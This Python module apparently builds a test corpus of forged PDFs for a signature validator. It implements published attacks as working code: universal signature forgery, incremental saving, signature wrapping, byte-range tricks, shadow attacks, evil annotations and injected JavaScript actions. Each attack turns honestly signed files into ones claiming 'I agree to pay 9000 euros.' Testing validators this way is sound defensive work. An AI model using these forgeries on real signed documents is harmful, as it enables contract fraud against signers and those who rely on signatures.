"""The published attacks, by name. Each takes an honest file and gives a forged one.

Sources: Mladenov et al., "1 Trillion Dollar Refund" (universal signature forgery, incremental
saving, signature wrapping); Mainka et al., "Shadow Attacks"; Rohlmann et al., "Breaking the
Specification: PDF Certification" (evil annotations, sneaky signatures).
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import re
from collections.abc import Callable

import pikepdf

from evidence.management.attacks.honest import Maker
from evidence.management.attacks.update import (
    Update,
    body_of,
    facts_of,
    packed_update,
    ranges,
    stream,
    with_entry,
)

FORGED_TEXT = b"BT /F1 12 Tf 72 700 Td (Page 1: I agree to pay 9000 euros.) Tj ET"
Attack = Callable[[bytes, Maker], bytes]


def _page_update(pdf: bytes) -> Update:
    """Return an update that shows another text on the first page."""
    facts = facts_of(pdf)
    return Update(pdf, {facts.contents: stream(FORGED_TEXT)})


# Bytes.


def byte_in_page(pdf: bytes, maker: Maker) -> bytes:
    place = pdf.index(b"stream\n") + 24
    return pdf[:place] + bytes((pdf[place] ^ 1,)) + pdf[place + 1 :]


def byte_in_signature(pdf: bytes, maker: Maker) -> bytes:
    place = ranges(pdf)[0][1] + 1201
    digit = b"0" if pdf[place : place + 1] != b"0" else b"1"
    return pdf[:place] + digit + pdf[place + 1 :]


def padding_filled(pdf: bytes, maker: Maker) -> bytes:
    place = ranges(pdf)[-1][2] - 40
    return pdf[:place] + b"ab" + pdf[place + 2 :]


def trailing_bytes(pdf: bytes, maker: Maker) -> bytes:
    return pdf + b"% an innocent remark\n"


def trailing_eof(pdf: bytes, maker: Maker) -> bytes:
    return pdf + b"%%EOF\n"


def reason_replaced(pdf: bytes, maker: Maker) -> bytes:
    found = re.search(rb"/Reason \(([^)]*)\)", pdf)
    if found is None:
        raise ValueError("no reason")
    return pdf[: found.start(1)] + b"X" * len(found[1]) + pdf[found.end(1) :]


# Universal signature forgery.


def _in_dictionary(pattern: bytes, new: bytes) -> Attack:
    def attack(pdf: bytes, maker: Maker) -> bytes:
        found = re.search(pattern, pdf, re.DOTALL)
        if found is None:
            raise ValueError("no such place")
        return pdf[: found.start()] + new.ljust(len(found[0])) + pdf[found.end() :]

    return attack


_BYTE_RANGE = rb"/ByteRange\s*\[[^\]]*\]"
_CONTENTS = rb"/Contents\s*<30[0-9a-fA-F]+>"
UNIVERSAL: dict[str, Attack] = {
    "USF: no /ByteRange": _in_dictionary(_BYTE_RANGE, b""),
    "USF: /ByteRange null": _in_dictionary(_BYTE_RANGE, b"/ByteRange null"),
    "USF: /ByteRange of zeros": _in_dictionary(_BYTE_RANGE, b"/ByteRange [0 0 0 0]"),
    "USF: /ByteRange negative": _in_dictionary(_BYTE_RANGE, b"/ByteRange [0 -1 -1 -1]"),
    "USF: /ByteRange of one number": _in_dictionary(_BYTE_RANGE, b"/ByteRange [0]"),
    "USF: no /Contents": _in_dictionary(_CONTENTS, b""),
    "USF: /Contents null": _in_dictionary(_CONTENTS, b"/Contents null"),
    "USF: /Contents empty": _in_dictionary(_CONTENTS, b"/Contents <>"),
    "USF: /Contents of zeros": _in_dictionary(_CONTENTS, b"/Contents <0000>"),
}


# Incremental saving.


def isa(pdf: bytes, maker: Maker) -> bytes:
    return _page_update(pdf).build()


def isa_without_eof(pdf: bytes, maker: Maker) -> bytes:
    update = _page_update(pdf)
    update.end = b""
    return update.build()


def isa_empty_table(pdf: bytes, maker: Maker) -> bytes:
    update = _page_update(pdf)
    update.unlisted, update.end = True, b""
    return update.build()


def isa_empty_table_with_eof(pdf: bytes, maker: Maker) -> bytes:
    update = _page_update(pdf)
    update.unlisted, update.rows = True, b"0 0\n"
    return update.build()


def isa_no_table(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    return pdf + b"%d 0 obj\n" % facts.contents + stream(FORGED_TEXT) + b"\nendobj\n"


def isa_old_start(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    tail = b"%d 0 obj\n" % facts.contents + stream(FORGED_TEXT) + b"\nendobj\n"
    return pdf + tail + b"startxref\n%d\n%%%%EOF\n" % facts.start


def isa_loop(pdf: bytes, maker: Maker) -> bytes:
    update = _page_update(pdf)
    start = len(update.build()) - 200
    update.previous = start
    built = update.build()
    update.previous = built.rindex(b"xref\n", 0, built.rindex(b"startxref"))
    return update.build()


def isa_new_catalog(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    number = facts.size
    update = Update(
        pdf,
        {
            number: body_of(pdf, facts.root),
            facts.contents: stream(FORGED_TEXT),
        },
        root=number,
    )
    return update.build()


def isa_new_page(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    return Update(
        pdf, {facts.page: body_of(pdf, facts.page, MediaBox=pikepdf.Array([0, 0, 10, 10]))}
    ).build()


def isa_comment(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    hidden = b"%%\r%d 0 obj\n" % facts.contents + stream(FORGED_TEXT) + b"\nendobj\n"
    return Update(pdf + hidden, {facts.size: b"<< /Nothing true >>"}).build()


def isa_nothing_used(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    return Update(pdf, {facts.size: stream(FORGED_TEXT)}).build()


def isa_hybrid(pdf: bytes, maker: Maker) -> bytes:
    """Hide the forged page in the stream part of a hybrid cross-reference."""
    facts = facts_of(pdf)
    forged = b"%d 0 obj\n" % facts.contents + stream(FORGED_TEXT) + b"\nendobj\n"
    at = len(pdf)
    stream_at = at + len(forged)
    rows = b"\x01" + at.to_bytes(4, "big") + b"\x00"
    entries = b"/Type /XRef /W [1 4 1] /Index [%d 1] /Size %d /Root %d 0 R" % (
        facts.contents, facts.size + 1, facts.root,
    )  # fmt: skip
    table = b"%d 0 obj\n" % facts.size + stream(rows, entries) + b"\nendobj\n"
    return Update(
        pdf + forged + table, unlisted=True, rows=b"0 0\n", trailer=b" /XRefStm %d" % stream_at
    ).build()


def isa_packed(pdf: bytes, maker: Maker) -> bytes:
    """Give the first page another look from inside an object stream."""
    facts = facts_of(pdf)
    page = with_entry(body_of(pdf, facts.page, Contents=None), b"/Contents %d 0 R" % facts.size)
    return packed_update(pdf, [(facts.page, page)], {facts.size: stream(FORGED_TEXT)})


def isa_freed(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    return Update(pdf, freed=(facts.contents,)).build()


# Signature wrapping.

_HEAD = re.compile(rb"(?m)^(\d+) 0 obj\s")


def wrapping(pdf: bytes, maker: Maker) -> bytes:
    """Move what was signed second to the end; put objects of our own into the gap before it."""
    _, before, after, length = ranges(pdf)[0]
    signed = pdf[: after + length]
    facts = facts_of(signed)
    found = list(re.finditer(rb"(\d+) 0 obj\s", signed[:before]))[-1]
    number, head = int(found[1]), signed[found.start() : before]
    digits = re.sub(rb"(00)+>$", b">", signed[before:after])
    ends = signed.index(b"endobj", after) + 7
    rest, others = signed[after:ends], signed[ends : facts.start]
    out = bytearray(signed[:before] + b"<00>\n")
    begins = signed.rindex(b"%%EOF", 0, before)
    places = {int(one[1]): one.start() for one in _HEAD.finditer(signed, begins, found.start())}
    places |= {int(one[1]): len(out) + one.start() for one in _HEAD.finditer(others)}
    out += others
    places[facts.contents] = len(out)
    out += b"%d 0 obj\n" % facts.contents + stream(FORGED_TEXT) + b"\nendobj\n"
    places[number] = len(out)
    table = b"xref\n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (key, places[key]) for key in sorted(places)
    )
    previous = re.findall(rb"startxref\s+(\d+)", signed[:before])
    table += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        facts.size, facts.root, int(previous[-1]) if previous else 0,
    )  # fmt: skip
    moved = facts.start + len(table)
    numbers = b"/ByteRange [0 %d %d %d] " % (before, moved, length)
    old = re.compile(rb"/ByteRange\s*\[[^\]]*\]\s*")
    wrapped = old.sub(numbers, head) + digits + old.sub(numbers, rest)
    out += wrapped
    if len(out) > facts.start:
        raise ValueError("no room")
    out += b"\n" * (facts.start - len(out))
    return bytes(out) + table + signed[after:]


# Byte ranges.


def _signed_with_range(choose: Callable[[bytes, int, int], tuple[int, int, int, int]]) -> Attack:
    """Return an attack in which the signer really signs an odd /ByteRange."""

    def attack(pdf: bytes, maker: Maker) -> bytes:
        _, before, after, length = ranges(pdf)[0]
        data = bytearray(pdf[: after + length])
        numbers = choose(bytes(data), before, after)
        found = re.search(rb"/ByteRange\s*\[[^\]]*\]\s*", bytes(data))
        if found is None:
            raise ValueError("no range")
        new = b"/ByteRange [%d %d %d %d]" % numbers
        data[found.start() : found.end()] = new.ljust(len(found[0]))[: len(found[0])]
        return resigned(bytes(data), numbers, before, after, maker)

    return attack


def resigned(
    data: bytes, numbers: tuple[int, int, int, int], before: int, after: int, maker: Maker
) -> bytes:
    """Return ``data`` with a fresh, genuine signature over the ranges ``numbers``."""
    a, b, c, d = numbers
    digest = hashlib.sha256(data[a : a + b] + data[c : c + d]).digest()
    container: bytes = asyncio.run(maker.pki.simple_signer().async_sign(digest, "sha256")).dump()
    digits = container.hex().encode().ljust(after - before - 2, b"0")
    return data[: before + 1] + digits + data[after - 1 :]


def _wide_gap(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return 0, before, after + 60, len(data) - after - 60


def _late_start(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return 9, before - 9, after, len(data) - after


def _early_gap(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return 0, before - 10, after, len(data) - after


def _short(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return 0, before, after, len(data) - after - 30


def _swapped(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return after, len(data) - after, 0, before


def _overlapping(data: bytes, before: int, after: int) -> tuple[int, int, int, int]:
    return 0, before, before - 100, len(data) - before + 100


RANGES: dict[str, Attack] = {
    "signed gap wider than /Contents": _signed_with_range(_wide_gap),
    "signed gap begins early": _signed_with_range(_early_gap),
    "signed range begins late": _signed_with_range(_late_start),
    "signed range ends early": _signed_with_range(_short),
    "swapped ranges": _signed_with_range(_swapped),
    "overlapping ranges": _signed_with_range(_overlapping),
}


# Shadow documents.


def shadow_replace_font(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    font = body_of(pdf, facts.font, BaseFont=pikepdf.Name("/ZapfDingbats"))
    return Update(pdf, {facts.font: font}).build()


def shadow_hide(pdf: bytes, maker: Maker) -> bytes:
    """Take away the first of several contents of the page, which hid the others."""
    facts = facts_of(pdf)
    return Update(pdf, {facts.contents: stream(b" ")}).build()


def shadow_hide_and_replace(pdf: bytes, maker: Maker) -> bytes:
    """Lead the page's number to a spare object that was signed along, unused."""
    place = pdf.find(b"% spare\n")
    if place < 0:
        raise ValueError("no spare object")
    facts = facts_of(pdf)
    return Update(
        pdf, {}, places={facts.contents: pdf.index(b" 0 obj", place) - _digits(pdf, place)}
    ).build()


def _digits(pdf: bytes, place: int) -> int:
    found = re.compile(rb"% spare\n(\d+) 0 obj").match(pdf, place)
    return len(found[1]) if found else 1


# Certification.


def _annotation(flags: int, subtype: bytes) -> Attack:
    def attack(pdf: bytes, maker: Maker) -> bytes:
        facts = facts_of(pdf)
        number = facts.size
        page = body_of(pdf, facts.page)
        with pikepdf.open(io.BytesIO(pdf)) as opened:
            old = opened.pages[0].obj.get("/Annots", pikepdf.Array([]))
            listed = b" ".join(b"%d 0 R" % one.objgen[0] for one in old)
        page = body_of(pdf, facts.page, Annots=None)
        page = page.replace(b"<<", b"<< /Annots [%s %d 0 R] " % (listed, number), 1)
        note = (
            b"<< /Type /Annot /Subtype /%s /Rect [60 690 400 720] /F %d /DA (/Helv 12 Tf)"
            b" /Contents (I agree to pay 9000 euros.) /C [1 1 1] /AP << /N %d 0 R >> >>"
        ) % (subtype, flags, number + 1)
        look = stream(
            b"1 1 1 rg 0 0 340 30 re f BT 0 g /Helv 12 Tf 12 10 Td (I agree to pay 9000 euros.) Tj ET",
            b"/Type /XObject /Subtype /Form /BBox [0 0 340 30]",
        )
        return Update(pdf, {facts.page: page, number: note, number + 1: look}).build()

    return attack


evil_annotation = _annotation(4, b"FreeText")
evil_stamp = _annotation(4, b"Stamp")


def sneaky_signature(pdf: bytes, maker: Maker) -> bytes:
    """Cover the text with the appearance of a further, genuine signature."""
    return maker.sign(
        pdf,
        field="Sneaky",
        who=maker.pki.second,
        visible=(60, 690, 400, 720),
        reason="I agree to pay 9000 euros.",
    )


def sneaky_signature_archived(pdf: bytes, maker: Maker) -> bytes:
    return maker.stamp(sneaky_signature(pdf, maker), field="Sneaky2", with_store=False)


# Fields and time-stamps.


def form_removed(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    return Update(pdf, {facts.root: body_of(pdf, facts.root, AcroForm=None)}).build()


def form_removed_and_stamped(pdf: bytes, maker: Maker) -> bytes:
    return maker.stamp(form_removed(pdf, maker), field="Fresh", with_store=False)


def field_removed(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    body = body_of(pdf, facts.fields[0], V=None)
    return Update(pdf, {facts.fields[0]: body}).build()


def form_misspelt(pdf: bytes, maker: Maker) -> bytes:
    return pdf.replace(b"/AcroForm", b"/AcroFarm")


def signature_rewritten(pdf: bytes, maker: Maker) -> bytes:
    """Write the signature dictionary again, with another reason, in an update."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        number = opened.Root.AcroForm.Fields[0].V.objgen[0]
    body = body_of(pdf, number, Reason=pikepdf.String("Nothing at all"))
    return Update(pdf, {number: body}).build()


def stamp_over_forgery(pdf: bytes, maker: Maker) -> bytes:
    """Forge a page, then have a genuine authority stamp the whole."""
    return maker.stamp(isa(pdf, maker), field="Fresh", with_store=False)


def stamp_over_empty_table(pdf: bytes, maker: Maker) -> bytes:
    return maker.stamp(isa_empty_table_with_eof(pdf, maker), field="Fresh", with_store=False)


def stamp_copied(pdf: bytes, maker: Maker) -> bytes:
    """Copy the last token into a further time-stamp over a forged page."""
    _, first, last, _ = ranges(pdf)[-1]
    digits = pdf[first + 1 : last - 1]
    forged = stamp_over_forgery(pdf, maker)
    _, start, end, _ = ranges(forged)[-1]
    return (
        forged[: start + 1]
        + digits.ljust(end - start - 2, b"0")[: end - start - 2]
        + forged[end - 1 :]
    )


def stamp_duplicated(pdf: bytes, maker: Maker) -> bytes:
    """Name the same signature by a second field."""
    facts = facts_of(pdf)
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        form = opened.Root.AcroForm
        value = form.Fields[-1].V.objgen[0]
        listed = b" ".join(b"%d 0 R" % one.objgen[0] for one in form.Fields)
    field = b"<< /FT /Sig /T (Again) /V %d 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] >>"
    form_body = b"<< /Fields [%s %d 0 R] /SigFlags 3 >>" % (listed, facts.size)
    target = facts.form
    if target:
        return Update(pdf, {facts.size: field % value, target: form_body}).build()
    root = body_of(pdf, facts.root, AcroForm=None).replace(b"<<", b"<< /AcroForm " + form_body, 1)
    return Update(pdf, {facts.size: field % value, facts.root: root}).build()


# What a page inherits, what a reader runs, what a document says of itself.


def _rewritten(find: Callable[[bytes], int], more: bytes) -> Attack:
    """Return an attack that puts ``more`` into one dictionary of the file."""

    def attack(pdf: bytes, maker: Maker) -> bytes:
        number = find(pdf)
        return Update(pdf, {number: with_entry(body_of(pdf, number), more)}).build()

    return attack


def _catalog(pdf: bytes) -> int:
    return facts_of(pdf).root


def _first_page(pdf: bytes) -> int:
    return facts_of(pdf).page


def _page_tree(pdf: bytes) -> int:
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        return int(opened.Root.Pages.objgen[0])


def _in_form(more: bytes) -> Attack:
    def attack(pdf: bytes, maker: Maker) -> bytes:
        facts = facts_of(pdf)
        number = facts.form or facts.root
        body = body_of(pdf, number)
        at = body.index(b"<<", 0 if facts.form else body.index(b"/AcroForm")) + 2
        return Update(pdf, {number: body[:at] + b" " + more + b" " + body[at:]}).build()

    return attack


def file_attached(pdf: bytes, maker: Maker) -> bytes:
    """Attach a file to the signed document, where readers list attachments."""
    facts = facts_of(pdf)
    names = b"/Names << /EmbeddedFiles << /Names [(x.txt) %d 0 R] >> >>" % facts.size
    root = with_entry(body_of(pdf, facts.root, Names=None), names)
    entry = b"<< /Type /Filespec /F (x.txt) /EF << /F %d 0 R >> >>" % (facts.size + 1)
    attached = stream(b"I agree to pay 9000 euros.", b"/Type /EmbeddedFile")
    return Update(pdf, {facts.root: root, facts.size: entry, facts.size + 1: attached}).build()


def title_replaced(pdf: bytes, maker: Maker) -> bytes:
    number = facts_of(pdf).size
    said = b"<< /Title (Agreed: 9000 euros) /Author (A. Judge) >>"
    return Update(pdf, {number: said}, trailer=b" /Info %d 0 R" % number).build()


def title_replaced_in_place(pdf: bytes, maker: Maker) -> bytes:
    """Restate the very object that held the title, where there is one."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        number = opened.trailer.Info.objgen[0] if "/Info" in opened.trailer else 0
    if not number:
        return title_replaced(pdf, maker)
    said = b"<< /Title (Agreed: 9000 euros) >>"
    return Update(pdf, {number: said}, trailer=b" /Info %d 0 R" % number).build()


def title_replaced_and_stamped(pdf: bytes, maker: Maker) -> bytes:
    return maker.stamp(title_replaced(pdf, maker), field="Fresh", with_store=False)


def xmp_replaced(pdf: bytes, maker: Maker) -> bytes:
    facts = facts_of(pdf)
    said = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-'
        b'syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        b"<dc:title>Agreed: 9000 euros</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    root = with_entry(body_of(pdf, facts.root, Metadata=None), b"/Metadata %d 0 R" % facts.size)
    described = stream(said, b"/Type /Metadata /Subtype /XML")
    return Update(pdf, {facts.root: root, facts.size: described}).build()


def look_of_the_field(pdf: bytes, maker: Maker) -> bytes:
    """Give the field of the signature itself a look and a place over the text."""
    facts = facts_of(pdf)
    number = facts.fields[0]
    body = body_of(pdf, number, Rect=pikepdf.Array([60, 690, 400, 720]), AP=None)
    look = stream(
        b"1 1 1 rg 0 0 340 30 re f BT 0 g /Helv 12 Tf 12 10 Td (I agree to pay 9000 euros.) Tj ET",
        b"/Type /XObject /Subtype /Form /BBox [0 0 340 30]",
    )
    shown = with_entry(body, b"/AP << /N %d 0 R >>" % facts.size)
    return Update(pdf, {number: shown, facts.size: look}).build()


def store_replaced(pdf: bytes, maker: Maker) -> bytes:
    """Put text where certificates and proofs of revocation belong."""
    facts = facts_of(pdf)
    root = body_of(pdf, facts.root, DSS=None)
    store = b"/DSS << /Certs [%d 0 R] /Note (I agree to pay 9000 euros.) >>" % facts.size
    junk = stream(b"I agree to pay 9000 euros.")
    return Update(pdf, {facts.root: with_entry(root, store), facts.size: junk}).build()


_DINGBATS = b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"
AROUND: dict[str, Attack] = {
    "fonts the pages inherit": _rewritten(
        _page_tree, b"/Resources << /Font << /F1 " + _DINGBATS + b" >> >>"
    ),
    "pages turned": _rewritten(_page_tree, b"/Rotate 90"),
    "pages cut by an inherited box": _rewritten(_page_tree, b"/CropBox [0 0 200 200]"),
    "a script runs at opening": _rewritten(
        _catalog, b"/OpenAction << /S /JavaScript /JS (this.print\\(\\)) >>"
    ),
    "a script runs at printing": _rewritten(
        _catalog, b"/AA << /WP << /S /JavaScript /JS (1) >> >>"
    ),
    "a page leads elsewhere": _rewritten(
        _first_page, b"/AA << /O << /S /URI /URI (http://example.org/) >> >>"
    ),
    "layers switched": _rewritten(_catalog, b"/OCProperties << /OCGs [] /D << /BaseState /OFF >> >>"),
    "another version stated": _rewritten(_catalog, b"/Version /2.0"),
    "a table of contents added": _rewritten(_catalog, b"/Outlines << /Type /Outlines >>"),
    "a second form (XFA) added": _in_form(b"/XFA (<xdp/>)"),
    "fields drawn anew": _in_form(b"/NeedAppearances true"),
    "a file attached": file_attached,
    "title replaced": title_replaced,
    "title replaced in place": title_replaced_in_place,
    "title replaced, then stamped": title_replaced_and_stamped,
    "description (XMP) replaced": xmp_replaced,
    "look of the signature's field": look_of_the_field,
    "security store replaced by text": store_replaced,
}  # fmt: skip


GENERAL: dict[str, Attack] = {
    "a byte in a page": byte_in_page,
    "a byte in the signature": byte_in_signature,
    "padding filled": padding_filled,
    "trailing bytes": trailing_bytes,
    "trailing %%EOF": trailing_eof,
    "reason replaced in place": reason_replaced,
    **UNIVERSAL,
    "ISA: page replaced": isa,
    "ISA: without %%EOF": isa_without_eof,
    "ISA: empty table, no %%EOF (ISA-B)": isa_empty_table,
    "ISA: empty table": isa_empty_table_with_eof,
    "ISA: no table": isa_no_table,
    "ISA: old table again": isa_old_start,
    "ISA: table loops": isa_loop,
    "ISA: another catalog": isa_new_catalog,
    "ISA: page cut to nothing": isa_new_page,
    "ISA: behind a comment": isa_comment,
    "ISA: an object nothing uses": isa_nothing_used,
    "ISA: hybrid table": isa_hybrid,
    "ISA: object stream": isa_packed,
    "ISA: object freed": isa_freed,
    "signature wrapping": wrapping,
    **RANGES,
    "shadow: font replaced": shadow_replace_font,
    "shadow: cover taken away": shadow_hide,
    "evil annotation": evil_annotation,
    "evil stamp": evil_stamp,
    "form removed": form_removed,
    "form removed, then stamped": form_removed_and_stamped,
    "field emptied": field_removed,
    "form misspelt in place": form_misspelt,
    "signature dictionary rewritten": signature_rewritten,
    "time-stamp over a forged page": stamp_over_forgery,
    "time-stamp over an empty table": stamp_over_empty_table,
    "time-stamp copied": stamp_copied,
    "signature named twice": stamp_duplicated,
    **AROUND,
}
"""Attacks that fit any signed file; what they give must never be called intact."""

CERTIFIED: dict[str, Attack] = {
    "sneaky signature": sneaky_signature,
    "sneaky signature, then stamped": sneaky_signature_archived,
}
"""Attacks on certified files: an approval alone allows what they do."""
